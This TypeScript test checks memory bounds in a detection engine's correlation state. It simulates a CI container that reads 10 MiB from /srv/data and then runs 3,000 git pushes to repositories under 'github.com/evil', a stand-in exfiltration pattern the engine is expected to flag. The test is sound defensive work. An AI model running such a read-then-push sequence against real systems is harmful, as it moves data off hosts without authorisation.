/**
 * A node's pending list (src/correlate/state.ts) dropped a push judged before its time only at its next due
 * pass: a container spraying pushes (its own list full, each oldest judged early, then for good) kept every
 * push of the last pushSettleMs + latenessMs there, 40k at 1,000 a second of stream time.
 */
import { describe, expect, it } from 'vitest';
import { compileAllowlist } from '../../../src/correlate/allowlist.js';
import { correlatorConfigSchema } from '../../../src/correlate/config.js';
import { CorrelationEngine } from '../../../src/correlate/engine.js';
import type { NodeState } from '../../../src/correlate/state.js';
import { silentLogger } from '../../../src/telemetry/logger.js';
import { createMetrics } from '../../../src/telemetry/metrics.js';
import { MiB, Scenario } from './builder.js';

describe('node pending list', () => {
  it('holds no more judged pushes than waiting ones while a container sprays pushes', () => {
    const s = new Scenario();
    const c = s.container({ namespace: 'ci' });
    const sh = s.init(c);
    s.readMany(sh, '/srv/data', 10, MiB);
    const pushes = 3_000;
    for (let i = 0; i < pushes; i++) {
      s.exec(c, '/usr/bin/git', `push https://github.com/evil/x${i % 50}.git main`, { parent: sh });
      s.wait(1);
    }
    const config = correlatorConfigSchema.parse({});
    const engine = new CorrelationEngine(config, compileAllowlist([]), silentLogger(), createMetrics());
    // The tables are private: the test reads the one node's list between batches.
    const nodes = (engine as unknown as { tables: { nodes: Map<string, NodeState> } }).tables.nodes;
    let most = 0;
    let alerts = 0;
    for (let i = 0; i < s.events.length; i += 64) {
      alerts += engine.ingest(s.events.slice(i, i + 64)).length;
      for (const node of nodes.values()) most = Math.max(most, node.pending.length);
    }
    alerts += engine.flush().length;
    // The stream (3 s) is shorter than a push's settle time and lateness: none was due, every one was judged
    // early or for good as the container's list filled. Before: all 3,000 stayed listed.
    const waiting = 2 * config.caps.maxPendingPushesPerContainer;
    expect(most).toBeLessThanOrEqual(2 * waiting + 64);
    expect(alerts).toBeGreaterThan(0);
  });
});
